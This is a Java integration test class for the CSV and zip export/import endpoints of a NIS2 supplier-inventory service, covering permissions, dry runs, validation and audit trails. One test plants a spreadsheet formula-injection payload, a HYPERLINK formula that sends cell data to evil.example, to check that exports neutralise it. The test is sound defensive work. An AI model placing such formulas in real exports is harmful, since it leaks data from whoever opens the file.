package eu.nis2registry.inventory.rest;

import eu.nis2registry.support.Api.User;
import eu.nis2registry.support.Api;
import io.quarkus.test.common.http.TestHTTPResource;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.path.json.JsonPath;
import io.restassured.response.Response;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVPrinter;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.StringReader;
import java.io.StringWriter;
import java.io.UncheckedIOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.TimeUnit;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;

import static eu.nis2registry.support.Api.admin;
import static eu.nis2registry.support.Api.anonymous;
import static eu.nis2registry.support.Api.as;
import static eu.nis2registry.support.Api.error;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.tuple;
import static org.hamcrest.Matchers.contains;
import static org.hamcrest.Matchers.equalTo;
import static org.hamcrest.Matchers.hasItem;
import static org.hamcrest.Matchers.not;
import static org.hamcrest.Matchers.startsWith;

/** CSV export and import of the inventory: {@code GET /api/inventory/export}, {@code POST /api/inventory/import}. */
@QuarkusTest
class InventoryResourceTest {

    private static final String ORGANIZATIONS_HEADER = "id,name,enterprise_number,sector,nis2_category,email_domains";
    private static final String SUPPLIERS_HEADER = "id,name,enterprise_number,country,domains,subcontractors";
    private static final String ENGAGEMENTS_HEADER =
            "id,organization,supplier,service,service_hosts,data_categories,access,criticality,contract_clauses";

    @TestHTTPResource("/")
    URI base;

    private String nameA;
    private String nameB;
    private long orgA;
    private long orgB;
    private String supplierDomain;
    private long supplier;
    private User cisoOfA;
    private User officerOfA;
    private User cisoOfB;

    @BeforeEach
    void twoOrganizationsSharingASupplier() {
        nameA = Api.unique("AZ Export A");
        nameB = Api.unique("AZ Export B");
        orgA = Api.createOrganization(nameA, Api.unique("a").toLowerCase() + ".example");
        orgB = Api.createOrganization(nameB);
        supplierDomain = Api.unique("exported").toLowerCase() + ".example";
        supplier = Api.createSupplier(Api.unique("Exported Soft"), supplierDomain);
        cisoOfA = Api.user("CISO", List.of(orgA));
        officerOfA = Api.user("COMPLIANCE_OFFICER", List.of(orgA));
        cisoOfB = Api.user("CISO", List.of(orgB));
    }

    @Test
    void exportsAZipOfThreeCsvFilesByDefault() {
        Response answer = as(cisoOfA.token()).get("/api/inventory/export");

        answer.then().statusCode(200).contentType("application/zip");
        Map<String, String> files = unzip(answer.asByteArray());
        assertThat(files).containsOnlyKeys("organizations.csv", "suppliers.csv", "engagements.csv");
        assertThat(files.get("organizations.csv")).startsWith(ORGANIZATIONS_HEADER + "\r\n");
        assertThat(files.get("suppliers.csv")).startsWith(SUPPLIERS_HEADER + "\r\n");
        assertThat(files.get("engagements.csv")).startsWith(ENGAGEMENTS_HEADER + "\r\n");
    }

    @Test
    void exportsOneKindAsCsv() {
        Response answer = as(cisoOfA.token()).queryParam("kind", "suppliers").get("/api/inventory/export");

        answer.then().statusCode(200).contentType(startsWith("text/csv"));
        List<Map<String, String>> rows = rows(answer.asString());
        assertThat(rows).extracting(r -> r.get("id")).contains(String.valueOf(supplier));
        assertThat(rows).filteredOn(r -> r.get("id").equals(String.valueOf(supplier)))
                .extracting(r -> r.get("domains")).containsExactly(supplierDomain);
    }

    @Test
    void refusesAnUnknownKind() {
        as(cisoOfA.token()).queryParam("kind", "audits").get("/api/inventory/export")
                .then().spec(error(400, "bad_request")).body("details.field", contains("kind"));
    }

    @Test
    void exportsOnlyWhatTheCallerMaySee() {
        String serviceA = Api.unique("Service of A");
        String serviceB = Api.unique("Service of B");
        createEngagement(cisoOfA.token(), orgA, serviceA);
        createEngagement(cisoOfB.token(), orgB, serviceB);

        Map<String, String> files = unzip(as(cisoOfA.token()).get("/api/inventory/export").then().statusCode(200)
                .extract().asByteArray());

        assertThat(rows(files.get("organizations.csv"))).extracting(r -> r.get("name")).containsExactly(nameA);
        assertThat(rows(files.get("engagements.csv"))).extracting(r -> r.get("service")).containsExactly(serviceA);
        assertThat(files.get("organizations.csv") + files.get("engagements.csv")).doesNotContain(nameB, serviceB);
    }

    @Test
    void anAuditorMayExport() {
        User auditorOfA = Api.user("AUDITOR", List.of(orgA));

        as(auditorOfA.token()).get("/api/inventory/export").then().statusCode(200);
    }

    @Test
    void roundTripsAChangedCell() {
        long engagement = createEngagement(officerOfA.token(), orgA, Api.unique("Round trip"));
        Map<String, String> files = unzip(as(officerOfA.token()).get("/api/inventory/export").asByteArray());

        files.put("engagements.csv", changeCell(files.get("engagements.csv"), engagement, "criticality", "LOW"));
        Response answer = importZip(officerOfA.token(), files, false);

        answer.then().statusCode(200).body("dryRun", equalTo(false)).body("counts.ORGANIZATIONS.unchanged", equalTo(1));
        // Only the changed row is an update: the rest of the export comes back as it was.
        assertThat(answer.jsonPath().getInt("counts.ENGAGEMENTS.updated")).isEqualTo(1);
        assertThat(answer.jsonPath().getInt("counts.ENGAGEMENTS.created")).isZero();
        as(officerOfA.token()).get("/api/engagements/" + engagement).then().body("criticality", equalTo("LOW"));
    }

    @Test
    void anAdminRoundTripsTheWholeExportWithEngagementsItMayNotChange() {
        createEngagement(officerOfA.token(), orgA, Api.unique("Untouched"));
        Map<String, String> files = unzip(as(admin()).get("/api/inventory/export").asByteArray());
        String sector = Api.unique("Elderly care");
        files.put("organizations.csv", changeCell(files.get("organizations.csv"), orgA, "sector", sector));
        files.put("suppliers.csv", changeCell(files.get("suppliers.csv"), supplier, "country", "LU"));

        Response answer = importZip(admin(), files, false);

        answer.then().statusCode(200);
        assertThat(answer.jsonPath().getInt("counts.ENGAGEMENTS.unchanged")).isPositive();

        as(admin()).get("/api/organizations/" + orgA).then().body("sector", equalTo(sector));
        as(admin()).get("/api/suppliers/" + supplier).then().body("country", equalTo("LU"));
    }

    @Test
    void reImportingAnUnchangedSupplierRowLeavesNoTraceInTheTrail() {
        String csv = onlyRows(as(admin()).queryParam("kind", "suppliers").get("/api/inventory/export").asString(), supplier);
        int before = trailOf("Supplier", supplier).size();

        importCsv(admin(), "suppliers", csv, false).then().statusCode(200).body("counts.SUPPLIERS.unchanged", equalTo(1))
                .body("counts.SUPPLIERS.updated", equalTo(0));

        assertThat(trailOf("Supplier", supplier)).hasSize(before);
        String country = "NL".equals(as(admin()).get("/api/suppliers/" + supplier).jsonPath().getString("country")) ? "DE" : "NL";
        importCsv(admin(), "suppliers", changeCell(csv, supplier, "country", country), false).then().statusCode(200)
                .body("counts.SUPPLIERS.updated", equalTo(1));
        assertThat(trailOf("Supplier", supplier)).hasSize(before + 1);
    }

    private static List<Object> trailOf(String entityType, long id) {
        return as(admin()).queryParam("entityType", entityType).queryParam("entityId", id).queryParam("size", 1000)
                .get("/api/audit-trail").then().statusCode(200).extract().jsonPath().getList("$");
    }

    @Test
    void roundTripsASubcontractorKnownOnlyByANameWithSpaces() {
        long partner = Api.createSupplier(Api.unique("Hosting Partner NV"));
        as(admin()).body(Map.of("subcontractorId", partner)).post("/api/suppliers/" + supplier + "/subcontractors")
                .then().statusCode(204);
        String csv = onlyRows(as(admin()).queryParam("kind", "suppliers").get("/api/inventory/export").asString(),
                supplier, partner);

        importCsv(admin(), "suppliers", csv, false).then().statusCode(200).body("counts.SUPPLIERS.unchanged", equalTo(2));

        as(admin()).get("/api/suppliers/" + supplier).then().body("subcontractorIds", contains((int) partner));
    }

    @Test
    void exportsTextThatLooksLikeAFormulaSoThatSpreadsheetsDoNotRunIt() {
        String name = "=HYPERLINK(\"https://evil.example/\"&A1;\"click\") " + Api.unique("x");
        long formula = Api.createSupplier(name);
        long minus = Api.createSupplier("-1+1 " + Api.unique("Minus"));
        String csv = onlyRows(as(admin()).queryParam("kind", "suppliers").get("/api/inventory/export").asString(),
                formula, minus);

        assertThat(rows(csv)).extracting(r -> r.get("name")).allSatisfy(cell ->
                assertThat(cell).doesNotStartWith("=").doesNotStartWith("-").doesNotStartWith("+").doesNotStartWith("@"));

        importCsv(admin(), "suppliers", csv, false).then().statusCode(200);
        as(admin()).get("/api/suppliers/" + formula).then().body("name", equalTo(name));
        as(admin()).get("/api/suppliers/" + minus).then().body("name", startsWith("-1+1 "));
    }

    @Test
    void createsANewRow() {
        String name = Api.unique("Imported Soft");
        String domain = Api.unique("imported").toLowerCase() + ".example";
        String csv = SUPPLIERS_HEADER + "\r\n," + name + ",,BE," + domain.toUpperCase() + "," + supplierDomain + "\r\n";

        Response answer = importCsv(officerOfA.token(), "suppliers", csv, false);

        answer.then().statusCode(200);
        assertThat(answer.jsonPath().getInt("counts.SUPPLIERS.created")).isEqualTo(1);
        JsonPath created = as(admin()).queryParam("q", name).get("/api/suppliers").then().statusCode(200).extract().jsonPath();
        assertThat(created.getList("domains[0]", String.class)).containsExactly(domain);
        assertThat(created.getList("subcontractorIds[0]", Long.class)).containsExactly(supplier);
    }

    @Test
    void createsANewEngagementByOrganizationAndSupplierKeys() {
        String service = Api.unique("Imported service");
        String csv = ENGAGEMENTS_HEADER + "\r\n," + nameA + "," + supplierDomain + "," + service
                + ",portal.example.be,HEALTH; PERSONAL,USER,HIGH,AUDIT_RIGHT\r\n";

        importCsv(cisoOfA.token(), "engagements", csv, false).then().statusCode(200)
                .body("counts.ENGAGEMENTS.created", equalTo(1));

        as(cisoOfA.token()).get("/api/organizations/" + orgA + "/engagements").then()
                .body("find { it.service == '" + service + "' }.supplierId", equalTo((int) supplier))
                .body("find { it.service == '" + service + "' }.dataCategories", contains("HEALTH", "PERSONAL"));
    }

    @Test
    void aDryRunFlagThatIsNotTrueOrFalseIsRefusedAndStoresNothing() {
        String name = Api.unique("Flag Soft");
        String csv = SUPPLIERS_HEADER + "\r\n," + name + ",,,,\r\n";

        Response answer = as(officerOfA.token()).contentType("text/csv").queryParam("kind", "suppliers")
                .queryParam("dryRun", "yes").body(csv.getBytes(StandardCharsets.UTF_8)).post("/api/inventory/import");

        answer.then().spec(Api.error(400, "bad_request")).body("details[0].field", equalTo("dryRun"));
        as(admin()).queryParam("q", name).get("/api/suppliers").then().header("X-Total-Count", "0");
    }

    @Test
    void aDryRunStoresNothing() {
        long engagement = createEngagement(officerOfA.token(), orgA, Api.unique("Dry run"));
        Map<String, String> files = unzip(as(officerOfA.token()).get("/api/inventory/export").asByteArray());
        files.put("engagements.csv", changeCell(files.get("engagements.csv"), engagement, "criticality", "LOW"));
        String name = Api.unique("Dry Soft");
        files.put("suppliers.csv", files.get("suppliers.csv") + "," + name + ",,,,\r\n");

        Response answer = importZip(officerOfA.token(), files, true);

        answer.then().statusCode(200).body("dryRun", equalTo(true)).body("counts.SUPPLIERS.created", equalTo(1));
        as(officerOfA.token()).get("/api/engagements/" + engagement).then().body("criticality", equalTo("CRITICAL"));
        as(admin()).queryParam("q", name).get("/api/suppliers").then().header("X-Total-Count", "0");
    }

    @Test
    void aBadRowIsNamedByFileLineAndColumnAndNothingOfTheImportIsStored() {
        String good = Api.unique("Good Soft");
        String goodService = Api.unique("Good service");
        String suppliers = SUPPLIERS_HEADER + "\r\n"
                + "," + good + ",,BE,,\r\n"
                + "," + Api.unique("Bad Soft") + ",,BE,bad_domain,\r\n";
        String engagements = ENGAGEMENTS_HEADER + "\r\n"
                + "," + nameA + "," + supplierDomain + "," + Api.unique("Bad enum") + ",,HEALTH,ROOT,HIGH,\r\n"
                + "," + Api.unique("AZ Nowhere") + "," + supplierDomain + "," + Api.unique("Nowhere") + ",,HEALTH,USER,HIGH,\r\n"
                + "," + nameA + "," + supplierDomain + "," + goodService + ",,HEALTH,USER,HIGH,\r\n";

        Response answer = importZip(cisoOfA.token(), Map.of("suppliers.csv", suppliers, "engagements.csv", engagements), false);

        answer.then().spec(error(422, "validation_failed"));
        List<Map<String, Object>> details = answer.jsonPath().getList("details");
        assertThat(details).extracting(d -> d.get("file"), d -> d.get("line"), d -> d.get("field")).containsExactlyInAnyOrder(
                tuple("suppliers.csv", 3, "domains"),
                tuple("engagements.csv", 2, "access"),
                tuple("engagements.csv", 3, "organization"));
        as(admin()).queryParam("q", good).get("/api/suppliers").then().header("X-Total-Count", "0");
        as(cisoOfA.token()).get("/api/organizations/" + orgA + "/engagements").then()
                .body("service", not(hasItem(goodService)));
    }

    @Test
    void aBadOrganizationRowNamesItsColumn() {
        String name = Api.unique("AZ Imported");
        String csv = ORGANIZATIONS_HEADER + "\r\n"
                + "," + name + ",,Health,ESSENTIAL,ok.example\r\n"
                + "," + Api.unique("AZ Bad") + ",0403.170.702,Health,ESSENTIAL,good.example; bad_domain\r\n"
                + "," + Api.unique("AZ Worse") + ",,Health,CRUCIAL,\r\n";

        Response answer = importCsv(admin(), "organizations", csv, false);

        answer.then().spec(error(422, "validation_failed"));
        List<Map<String, Object>> details = answer.jsonPath().getList("details");
        assertThat(details).extracting(d -> d.get("file"), d -> d.get("line"), d -> d.get("field")).containsExactlyInAnyOrder(
                tuple("organizations.csv", 3, "enterprise_number"),
                tuple("organizations.csv", 3, "email_domains"),
                tuple("organizations.csv", 4, "nis2_category"));
        as(admin()).get("/api/organizations").then().body("name", not(hasItem(name)));
    }

    @Test
    void otherWritesWaitForALongImportInsteadOfFailing() throws Exception {
        StringBuilder csv = new StringBuilder(SUPPLIERS_HEADER).append("\r\n");
        String tag = Api.unique("bulk").toLowerCase();
        for (int i = 0; i < 800; i++) {
            csv.append(",Bulk ").append(tag).append(' ').append(i).append(",,BE,d").append(i).append('.').append(tag)
                    .append(".example,\r\n");
        }
        HttpClient client = HttpClient.newHttpClient();
        CompletableFuture<HttpResponse<String>> bulk = client.sendAsync(HttpRequest.newBuilder(
                        base.resolve("api/inventory/import?kind=suppliers")).header("Authorization", "Bearer " + admin())
                .header("Content-Type", "text/csv").POST(HttpRequest.BodyPublishers.ofString(csv.toString())).build(),
                HttpResponse.BodyHandlers.ofString());
        // Give the import time to take the audit trail's lock, which every write needs.
        Thread.sleep(1000);

        as(cisoOfA.token()).body(SupplierResourceTest.supplier(Api.unique("Meanwhile Soft"), null, List.of()))
                .post("/api/suppliers").then().statusCode(201);

        assertThat(bulk.get(120, TimeUnit.SECONDS).statusCode()).isEqualTo(200);
        as(admin()).queryParam("q", tag).get("/api/suppliers").then().header("X-Total-Count", "800");
    }

    @Test
    void refusesACsvWithoutARequiredColumn() {
        String name = Api.unique("AZ Columnless");
        String csv = "name,nis2_category\r\n" + name + ",ESSENTIAL\r\n";

        importCsv(admin(), "organizations", csv, false).then().spec(error(422, "validation_failed"))
                .body("details[0].file", equalTo("organizations.csv"))
                .body("details[0].line", equalTo(1))
                .body("details[0].field", equalTo("sector"));
        as(admin()).get("/api/organizations").then().body("name", not(hasItem(name)));
    }

    @Test
    void refusesABodyThatIsNotAZip() {
        as(cisoOfA.token()).contentType("application/zip").body("this is not a zip".getBytes(StandardCharsets.UTF_8))
                .post("/api/inventory/import").then().spec(error(400, "bad_request"));
    }

    @Test
    void aSingleCsvNeedsItsKind() {
        as(cisoOfA.token()).contentType("text/csv").body(SUPPLIERS_HEADER + "\r\n").post("/api/inventory/import")
                .then().spec(error(400, "bad_request")).body("details.field", contains("kind"));
    }

    @Test
    void anAuditorCannotImport() {
        User auditorOfA = Api.user("AUDITOR", List.of(orgA));
        String name = Api.unique("Audited Import");

        importCsv(auditorOfA.token(), "suppliers", SUPPLIERS_HEADER + "\r\n," + name + ",,,,\r\n", false)
                .then().spec(error(403, "forbidden"));

        as(admin()).queryParam("q", name).get("/api/suppliers").then().header("X-Total-Count", "0");
    }

    @Test
    void aComplianceOfficerCannotCreateOrganizationsThroughAnImport() {
        String name = Api.unique("AZ Smuggled");

        importCsv(officerOfA.token(), "organizations", ORGANIZATIONS_HEADER + "\r\n," + name + ",,Health,ESSENTIAL,\r\n", false)
                .then().spec(error(422, "validation_failed"))
                .body("details[0].file", equalTo("organizations.csv")).body("details[0].line", equalTo(2));

        as(admin()).get("/api/organizations").then().body("name", not(hasItem(name)));
    }

    @Test
    void aComplianceOfficerCannotChangeItsOwnOrganizationThroughAnImport() {
        Map<String, String> files = unzip(as(officerOfA.token()).get("/api/inventory/export").asByteArray());
        files.put("organizations.csv", changeCell(files.get("organizations.csv"), orgA, "nis2_category", "NONE"));

        importZip(officerOfA.token(), files, false).then().spec(error(422, "validation_failed"))
                .body("details[0].file", equalTo("organizations.csv")).body("details[0].line", equalTo(2));

        as(admin()).get("/api/organizations/" + orgA).then().body("nis2Category", equalTo("ESSENTIAL"));
    }

    @Test
    void anAdminCannotChangeAnEngagementThroughAnImport() {
        long engagement = createEngagement(officerOfA.token(), orgA, Api.unique("Admin-proof"));
        Map<String, String> files = unzip(as(admin()).get("/api/inventory/export").asByteArray());
        files.put("engagements.csv", changeCell(files.get("engagements.csv"), engagement, "access", "NONE"));

        importZip(admin(), files, false).then().spec(error(422, "validation_failed"))
                .body("details.file", contains("engagements.csv"));

        as(officerOfA.token()).get("/api/engagements/" + engagement).then().body("access", equalTo("PRIVILEGED"));
    }

    @Test
    void aComplianceOfficerCannotChangeAnotherOrganizationsEngagementThroughAnImport() {
        long ofB = createEngagement(cisoOfB.token(), orgB, Api.unique("Service of B"));
        String csv = ENGAGEMENTS_HEADER + "\r\n" + ofB + "," + nameA + "," + supplierDomain + ",Hijacked,,HEALTH,USER,LOW,\r\n";

        importCsv(officerOfA.token(), "engagements", csv, false).then().spec(error(422, "validation_failed"))
                .body("details[0].field", equalTo("id"));

        as(cisoOfB.token()).get("/api/engagements/" + ofB).then().body("criticality", equalTo("CRITICAL"));
    }

    @Test
    void exportAndImportNeedAValidToken() {
        anonymous().get("/api/inventory/export").then().spec(error(401, "unauthorized"));
        as("not-a-real-token").get("/api/inventory/export").then().spec(error(401, "unauthorized"));
        anonymous().contentType("text/csv").queryParam("kind", "suppliers").body(SUPPLIERS_HEADER + "\r\n")
                .post("/api/inventory/import").then().spec(error(401, "unauthorized"));
        as("not-a-real-token").contentType("application/zip").body(zip(Map.of("suppliers.csv", SUPPLIERS_HEADER + "\r\n")))
                .post("/api/inventory/import").then().spec(error(401, "unauthorized"));
    }

    private long createEngagement(String token, long organization, String service) {
        return as(token).body(EngagementResourceTest.engagement(supplier, service)).post("/api/organizations/" + organization + "/engagements")
                .then().statusCode(201).extract().jsonPath().getLong("id");
    }

    private static Response importZip(String token, Map<String, String> files, boolean dryRun) {
        return as(token).contentType("application/zip").queryParam("dryRun", dryRun).body(zip(files))
                .post("/api/inventory/import");
    }

    private static Response importCsv(String token, String kind, String csv, boolean dryRun) {
        return as(token).contentType("text/csv").queryParam("kind", kind).queryParam("dryRun", dryRun)
                .body(csv.getBytes(StandardCharsets.UTF_8)).post("/api/inventory/import");
    }

    /** The CSV with one cell of the row with this id replaced. */
    private static String changeCell(String csv, long id, String column, String value) {
        try (CSVParser parser = CSVParser.parse(csv, CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get())) {
            List<String> header = parser.getHeaderNames();
            StringWriter out = new StringWriter();
            CSVPrinter printer = new CSVPrinter(out, CSVFormat.RFC4180);
            printer.printRecord(header);
            boolean found = false;
            for (CSVRecord record : parser) {
                List<String> cells = new ArrayList<>(record.toList());
                if (cells.get(0).equals(String.valueOf(id))) {
                    cells.set(header.indexOf(column), value);
                    found = true;
                }
                printer.printRecord(cells);
            }
            printer.flush();
            assertThat(found).as("row %d in the export", id).isTrue();
            return out.toString();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** The header and the rows with these ids, so that an import concerns this test's records only. */
    private static String onlyRows(String csv, long... ids) {
        List<String> wanted = Arrays.stream(ids).mapToObj(String::valueOf).toList();
        String[] lines = csv.split("\r\n");
        StringBuilder out = new StringBuilder(lines[0]).append("\r\n");
        for (String line : lines) {
            if (wanted.contains(line.substring(0, Math.max(0, line.indexOf(','))))) {
                out.append(line).append("\r\n");
            }
        }
        assertThat(out.toString().split("\r\n")).hasSize(ids.length + 1);
        return out.toString();
    }

    private static List<Map<String, String>> rows(String csv) {
        try (CSVParser parser = CSVParser.parse(new StringReader(csv),
                CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get())) {
            List<Map<String, String>> rows = new ArrayList<>();
            parser.forEach(record -> rows.add(record.toMap()));
            return rows;
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static Map<String, String> unzip(byte[] zip) {
        Map<String, String> files = new LinkedHashMap<>();
        try (ZipInputStream in = new ZipInputStream(new ByteArrayInputStream(zip), StandardCharsets.UTF_8)) {
            for (ZipEntry entry = in.getNextEntry(); entry != null; entry = in.getNextEntry()) {
                files.put(entry.getName(), new String(in.readAllBytes(), StandardCharsets.UTF_8));
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        assertThat(files).as("entries of the zip").isNotEmpty();
        return files;
    }

    private static byte[] zip(Map<String, String> files) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(out, StandardCharsets.UTF_8)) {
            for (Map.Entry<String, String> file : files.entrySet()) {
                zip.putNextEntry(new ZipEntry(file.getKey()));
                zip.write(file.getValue().getBytes(StandardCharsets.UTF_8));
                zip.closeEntry();
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }
}
